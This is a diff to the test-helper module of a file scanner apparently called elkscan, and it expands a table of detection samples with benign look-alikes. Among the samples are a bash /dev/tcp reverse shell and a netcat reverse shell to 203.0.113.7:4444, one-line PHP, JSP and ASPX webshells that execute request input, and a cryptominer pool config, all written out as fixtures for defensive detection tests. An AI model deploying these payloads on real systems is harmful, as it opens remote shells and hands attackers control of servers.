@@ -1,8 +1,8 @@
 """Public helpers for testing elkscan plugins (also a pytest plugin, so nothing needs importing).
 
 - ``eicar()`` builds the EICAR test string at run time, so no repository holds it.
-- ``write_samples(directory)`` writes harmless files that the bundled rules detect, and benign
-  look-alikes that they must not.
+- ``write_samples(directory)`` writes ``SAMPLES``: harmless files that the bundled rules detect, and
+  benign look-alikes that they must not.
 - ``run(pipeline, plugins=...)`` runs a real session with a fresh plugin manager and returns every
   record the sinks saw, through a ``Collector`` sink added to the pipeline.
 """
@@ -38,22 +38,39 @@ def _j(*parts: str) -> bytes:
     return "".join(parts).encode()
 
 
-#: name -> (content, detected by the bundled rules?)
-SAMPLES: dict[str, tuple[bytes, bool]] = {
-    "eicar.com": (eicar(), True),
-    "eicar-lookalike.txt": (b"The EICAR test file is described at eicar.org; it is harmless.\n", False),
+def _fake_miner_elf() -> bytes:
+    """An ELF header followed by the strings of a miner binary; not a runnable program."""
+    strings = (_j("--donate", "-level"), _j("--cpu-", "priority"), _j("crypto", "night"),
+               _j("stra", "tum+tcp://"))
+    return b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"\0".join(strings) + b"\0"
+
+
+#: file name -> (content, the bundled rule that must detect it, or None for a benign look-alike)
+SAMPLES: dict[str, tuple[bytes, str | None]] = {
+    "eicar.com": (eicar(), "Multios_TestFile_Eicar"),
+    "eicar-lookalike.txt": (b"The EICAR test file is described at eicar.org; it is harmless.\n", None),
     "miner.json": (_j('{"pools": [{"url": "stratum', '+tcp://pool.example.net:3333", ',
                       '"user": "4A1234", "pass": "x"}], "donate-level": 1, "randomx": {"1gb-pages": true}}\n'),
-                   True),
-    "miner-lookalike.md": (b"We use the Stratum protocol docs and a donation page; no pools here.\n", False),
-    "revshell.sh": (_j("#!/bin/sh\nbash -i >& /dev/", "tcp/203.0.113.7/4444 0>&1\n"), True),
+                   "Linux_Cryptominer_StratumConfig"),
+    "miner-lookalike.md": (b"Notes: the Stratum protocol is documented elsewhere; donate-level is a "
+                           b"setting we never use.\n", None),
+    "miner.elf": (_fake_miner_elf(), "Linux_Cryptominer_MinerBinary"),
+    "miner-lookalike.elf": (b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"randomx library build\0", None),
+    "revshell.sh": (_j("#!/bin/sh\nbash -i >& /dev/", "tcp/203.0.113.7/4444 0>&1\n"),
+                    "Linux_ReverseShell_DevTcp"),
     "revshell-lookalike.sh": (b"#!/bin/sh\n# checks that /dev/tcp is disabled in this shell\nbash -i\n",
-                              False),
-    "webshell.php": (_j("<?php @ev", "al($_PO", "ST['cmd']); ?>\n"), True),
-    "webshell-lookalike.php": (b"<?php echo htmlspecialchars($_POST['name'] ?? ''); ?>\n", False),
+                              None),
+    "netcat.sh": (_j("#!/bin/sh\nnc 203.0.113.7 4444 -", "e /bin/sh\n"), "Linux_ReverseShell_NetcatExec"),
+    "netcat-lookalike.sh": (b"#!/bin/sh\nnc -z 203.0.113.7 4444 && echo port open\n", None),
+    "webshell.php": (_j("<?php @ev", "al($_PO", "ST['cmd']); ?>\n"), "Php_Webshell_EvalRequest"),
+    "webshell-lookalike.php": (b"<?php echo htmlspecialchars($_POST['name'] ?? ''); ?>\n", None),
     "webshell.jsp": (_j('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().ex',
-                        'ec(request.getPara', 'meter("cmd")); %>\n'), True),
-    "webshell-lookalike.jsp": (b'<% String n = request.getParameter("name"); out.print(n); %>\n', False),
+                        'ec(request.getPara', 'meter("cmd")); %>\n'), "Jsp_Webshell_RuntimeExec"),
+    "webshell-lookalike.jsp": (b'<% String n = request.getParameter("name"); out.print(n); %>\n', None),
+    "webshell.aspx": (_j('<%@ Page Language="Jscript"%><%ev', 'al(Request.Item["pass"],"unsafe");%>\n'),
+                      "Asp_Webshell_EvalRequest"),
+    "webshell-lookalike.aspx": (b'<%@ Page Language="C#"%><% Response.Write(Request.Form["q"]); %>\n',
+                                None),
 }
 
 
